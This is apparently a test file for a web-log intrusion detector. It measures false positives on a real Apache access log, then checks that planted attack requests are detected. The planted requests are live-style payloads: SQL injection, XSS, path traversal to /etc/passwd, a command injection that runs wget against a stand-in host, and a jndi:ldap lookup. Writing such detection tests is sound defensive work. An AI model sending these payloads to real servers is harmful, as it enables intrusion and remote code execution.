/**
 * False positives of the built-in packs on real traffic: every line of
 * ../shared/corpus/apache-combined-2015.log (10,000 lines of a real web server's access log, May
 * 2015: browsers, crawlers, feed readers, spam referrers, URL-encoded queries) goes through the
 * access parser and the real engine with all packs loaded, at the time written in the line, and
 * the alerts each rule raises are counted and printed.
 *
 * Each hit of an injection rule was looked at by hand; the hits are listed below as REVIEWED,
 * and any other hit fails the test: a pattern that starts firing on benign traffic must be
 * tightened, or the new hit reviewed and listed. So that a count of zero means "quiet" and not
 * "blind", the same stream with a few real lines turned into attacks must raise exactly those.
 */
import fs from 'node:fs'
import path from 'node:path'
import t from 'tap'
import type { Entry } from '../agent/entry'
import { parserFor } from '../agent/parsers'
import { RuleEngine } from '../rules/engine'
import { loadRules } from '../rules/load'
import type { AlertEvent } from '../rules/model'
import { RuleIndex } from '../rules/rule-index'

const CORPUS = path.join(__dirname, '..', '..', 'shared', 'corpus', 'apache-combined-2015.log')
const PACKS = path.join(__dirname, '..', 'rules', 'packs')
const INJECTION_RULES = ['security-sqli', 'security-xss', 'security-path-traversal', 'security-command-injection']
const SECURITY_RULES = [...INJECTION_RULES, 'security-scanner', 'security-auth-denied-burst', 'security-login-bruteforce-ip', 'security-login-bruteforce-user']

/**
 * Hits of the injection rules on the corpus that were reviewed and are genuine attacks, as
 * `rule-id line-number`. None: the corpus's suspicious-looking lines are benign — a crawler
 * requesting `/scripts//%22$%7BWEBLOC%7D/view.php?file=$%7Blinkto%7D%5C%22` (shell variables
 * copied out of a script it indexed, not a command), spam bots posting "Result: chosen nickname
 * %22...%22;sent;" to a 404, `?C=N;O=D` directory-listing sorts, and referrers from pages about
 * "shell-script" and "server-side-javascript".
 */
const REVIEWED: string[] = []

const MINUTE = 60_000

interface Run {
  lines: number
  parsed: number
  /** Events per rule id. */
  counts: Record<string, number>
  /** `rule-id line-number` of every firing event of the injection rules. */
  injectionHits: string[]
}

/** Replays `lines` as the agent would see them live: each at the time written in it. */
function replay(lines: string[]): Run {
  const loaded = loadRules([PACKS])
  if (loaded.problems.length > 0) throw new Error(loaded.problems.map((p) => p.format()).join('\n'))
  const engine = new RuleEngine(loaded.rules, { index: (rules) => new RuleIndex(rules) })
  const parse = parserFor('access')
  const run: Run = { lines: lines.length, parsed: 0, counts: {}, injectionHits: [] }
  let now = -Infinity
  let nextTick = -Infinity
  let offset = 0
  const record = (events: readonly AlertEvent[], lineNo: number): void => {
    for (const e of events) {
      run.counts[e.ruleId] = (run.counts[e.ruleId] ?? 0) + 1
      if (INJECTION_RULES.includes(e.ruleId) && e.state === 'firing') run.injectionHits.push(`${e.ruleId} ${lineNo}`)
    }
  }
  lines.forEach((text, i) => {
    const result = parse(text, { timezone: 'UTC' })
    if (result.error === undefined) run.parsed++
    const stamp = Date.parse(String(result.fields['@timestamp']))
    // Lines within a minute are not in order (the log was shuffled by second): the clock only moves on.
    if (stamp > now) now = stamp
    if (nextTick === -Infinity) nextTick = now + MINUTE
    for (; nextTick <= now; nextTick += MINUTE) record(engine.tick(nextTick), i + 1)
    const entry: Entry = { sourceId: 'corpus', offset, end: offset + Buffer.byteLength(text) + 1, text, fields: result.fields }
    offset = entry.end
    record(engine.evaluate(entry, now), i + 1)
  })
  // Let windows close after the last line, so resolutions and late deadlines are counted too.
  for (let k = 0; k < 180; k++, nextTick += MINUTE) record(engine.tick(nextTick), lines.length)
  return run
}

function table(counts: Record<string, number>, ids: string[]): string {
  return ids.map((id) => `${id.padEnd(34)} ${counts[id] ?? 0}`).join('\n')
}

const corpus = fs.readFileSync(CORPUS, 'utf8').split('\n').filter((line) => line.length > 0)

t.test('the corpus is the real 10,000-line access log, and all of it parses', async (t) => {
  t.equal(corpus.length, 10_000)
  const run = replay(corpus.slice(0, 10))
  t.equal(run.parsed, 10)
})

t.test('the security rules stay quiet on real traffic; every other pack too', async (t) => {
  const run = replay(corpus)
  t.equal(run.parsed, corpus.length, 'every line parsed as an access-log line')
  t.comment(`alerts per security rule on ${path.basename(CORPUS)} (${run.lines} lines):\n${table(run.counts, SECURITY_RULES)}`)
  const others = Object.keys(run.counts).filter((id) => !SECURITY_RULES.includes(id))
  if (others.length > 0) t.comment(`other packs:\n${table(run.counts, others)}`)
  t.same(run.injectionHits, REVIEWED, 'the injection rules raise only the reviewed hits')
  for (const id of ['security-scanner', 'security-auth-denied-burst', 'security-login-bruteforce-ip', 'security-login-bruteforce-user']) {
    t.equal(run.counts[id] ?? 0, 0, `${id}: no scanner agents, 401/403 bursts or login failures in this log`)
  }
  t.same(run.counts, {}, 'no pack raises an alert on this benign traffic')
})

t.test('the same traffic with a few lines turned into attacks raises exactly those', async (t) => {
  // Real lines, with their request target (or user agent) replaced by an attack as it arrives
  // on the wire: encoded, double-encoded, plus-encoded.
  const attacks: Array<{ at: number; rule: string; request?: string; agent?: string }> = [
    { at: 120, rule: 'security-sqli', request: '/products.php?id=1%27%20UNION%20SELECT%20NULL,NULL,NULL--%20-' },
    { at: 950, rule: 'security-sqli', request: '/search?q=%2527%2520OR%25201%253D1--%2520' },
    { at: 2200, rule: 'security-xss', request: '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E' },
    { at: 3100, rule: 'security-xss', request: '/profile?name=%22%3E%3Csvg/onload=alert(1)%3E' },
    { at: 4800, rule: 'security-path-traversal', request: '/static/..%2F..%2F..%2Fetc%2Fpasswd' },
    { at: 6000, rule: 'security-path-traversal', request: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh' },
    { at: 7300, rule: 'security-command-injection', request: '/ping?host=8.8.8.8%7C%7Cwget%20http://203.0.113.9/x.sh' },
    { at: 8800, rule: 'security-command-injection', agent: '${jndi:ldap://203.0.113.9:1389/a}' },
  ]
  const lines = corpus.slice()
  for (const a of attacks) {
    const line = lines[a.at - 1]!
    lines[a.at - 1] = a.request !== undefined
      ? line.replace(/"(GET|HEAD|POST|OPTIONS) [^ "]+/, `"GET ${a.request}`)
      : line.replace(/"[^"]*"$/, `"${a.agent!}"`)
    t.not(lines[a.at - 1], line, `line ${a.at} was changed`)
  }
  const run = replay(lines)
  t.same(run.injectionHits.sort(), attacks.map((a) => `${a.rule} ${a.at}`).sort())
})
